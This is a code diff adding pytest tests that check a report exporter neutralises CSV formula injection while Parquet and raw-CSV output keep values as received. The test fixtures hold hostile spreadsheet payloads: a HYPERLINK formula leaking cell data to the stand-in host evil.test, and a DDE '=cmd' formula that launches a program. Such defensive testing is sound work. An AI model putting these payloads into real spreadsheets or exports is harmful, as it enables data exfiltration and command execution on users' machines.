@@ -118,3 +118,43 @@ def test_export_needs_built_models(tmp_path: Path) -> None:
         export_reports(tmp_path / "raw-only.duckdb", tmp_path / "out", "csv")
     with pytest.raises(ValueError):
         export_reports(tmp_path / "raw-only.duckdb", tmp_path / "out", "xlsx")  # type: ignore[arg-type]
+
+
+HYPERLINK = '=HYPERLINK("http://evil.test/?leak="&A1,"Open") AB'
+FORMULA = "=cmd|' /C calc'!A0"
+
+
+def _hostile_warehouse(tmp_path: Path) -> Path:
+    path = create_raw(tmp_path / "warehouse.duckdb")
+    insert(path, "connections", [connection("ns", "c1", HYPERLINK, received=["t1"])])
+    fields = [
+        field("cmd", "Input", "Cmd", {"value": FORMULA}),
+        field("plus", "Input", "Plus", {"value": "+1+1"}),
+        field("tab", "Input", "Tab", {"value": "\t@SUM(1)"}),
+        field("plain", "Input", "Plain", {"value": "a = b"}),
+    ]
+    insert(path, "questionnaires", [questionnaire("ns", "c1", "t1", [form("f", "F", *fields)])])
+    build_models(path, as_of=AS_OF)
+    return path
+
+
+def test_csv_neutralises_formula_triggers_and_parquet_keeps_values(tmp_path: Path) -> None:
+    path = _hostile_warehouse(tmp_path)
+    export_reports(path, tmp_path / "csv", "csv")
+    export_reports(path, tmp_path / "parquet", "parquet")
+    answers = pd.read_csv(tmp_path / "csv" / "answers.csv", keep_default_na=False)
+    texts = dict(zip(answers.field_id, answers.answer_text, strict=True))
+    assert texts == {"cmd": "'" + FORMULA, "plus": "'+1+1", "tab": "'\t@SUM(1)", "plain": "a = b"}
+    connections = pd.read_csv(tmp_path / "csv" / "connections.csv", keep_default_na=False)
+    assert list(connections.name) == ["'" + HYPERLINK]
+    assert answers.field_position.dtype.kind == "i"  # numbers stay numbers
+    parquet = pd.read_parquet(tmp_path / "parquet" / "answers.parquet")
+    assert dict(zip(parquet.field_id, parquet.answer_text, strict=True))["cmd"] == FORMULA
+    assert list(pd.read_parquet(tmp_path / "parquet" / "connections.parquet").name) == [HYPERLINK]
+
+
+def test_csv_raw_writes_values_as_received(tmp_path: Path) -> None:
+    path = _hostile_warehouse(tmp_path)
+    export_reports(path, tmp_path, "csv", csv_raw=True)
+    answers = pd.read_csv(tmp_path / "answers.csv", keep_default_na=False)
+    assert dict(zip(answers.field_id, answers.answer_text, strict=True))["cmd"] == FORMULA
